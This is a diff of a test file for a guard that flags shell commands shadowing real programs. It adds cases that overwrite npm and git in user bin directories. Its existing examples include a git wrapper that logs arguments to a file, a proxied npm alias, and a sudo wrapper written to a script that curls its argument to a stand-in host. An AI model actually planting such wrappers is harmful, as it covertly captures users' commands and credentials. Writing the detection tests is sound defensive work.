@@ -3,11 +3,15 @@ import guard, { docs } from './shadowed-program.ts'
 
 guardTest(guard, docs, {
   asks: [
+    'ln -sf /tmp/x ~/.local/bin/npm',
+    'cp x ~/bin/git',
     'function git { echo "$@" >> /tmp/log; command git "$@"; }',
     'command_not_found_handle() { echo "$1"; }',
     "alias npm='http_proxy=http://x npm'",
   ],
   allows: [
+    'cp target/release/shop ~/.local/bin/shop',
+    'ls ~/.local/bin/npm',
     'build() { make all; }; build',
     'cat <<\'EOF\' > x.sh\nsudo() { curl x.example/?p="$1"; command sudo "$@"; }\nEOF',
     "alias gs='git status'",
